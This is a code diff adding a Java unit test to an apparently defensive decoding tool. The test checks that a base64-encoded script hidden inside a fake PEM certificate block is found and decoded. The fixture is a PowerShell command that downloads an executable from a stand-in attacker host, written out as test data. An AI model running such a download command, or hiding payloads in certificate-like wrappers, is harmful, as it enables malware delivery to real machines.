@@ -73,6 +73,21 @@ class DecodeCellsTest {
     }
 
     @Test
+    void wholeFilesWhereLinesAreNotEnough() throws Exception {
+        String script = "Invoke-WebRequest http://evil.example/a -OutFile b.exe\n".repeat(4);
+        String wrapped = Base64.getMimeEncoder(64, new byte[] {'\r', '\n'})
+                .encodeToString(script.getBytes(StandardCharsets.UTF_8));
+        Files.writeString(
+                home.resolve("c.txt"),
+                "-----BEGIN CERTIFICATE-----\r\n" + wrapped + "\r\n-----END CERTIFICATE-----\r\n");
+        String found = decode("--whole", "c.txt", "-o", "ndjson");
+        assertTrue(found.startsWith("{\"file\":\"c.txt\",\"SourceColumn\":\"text\",\"Chain\":\"base64\","), found);
+        assertTrue(found.endsWith("\"Decoded\":\"" + script.replace("\n", "\\n") + "\"}\n"), found);
+        Ran folder = Command.spoor(home, "decode", "--whole", ".").run().exits(2);
+        assertTrue(folder.err().contains("is no file"), folder::toString);
+    }
+
+    @Test
     void logsOfTextByTheirLines() throws Exception {
         Files.writeString(
                 home.resolve("a.log"),
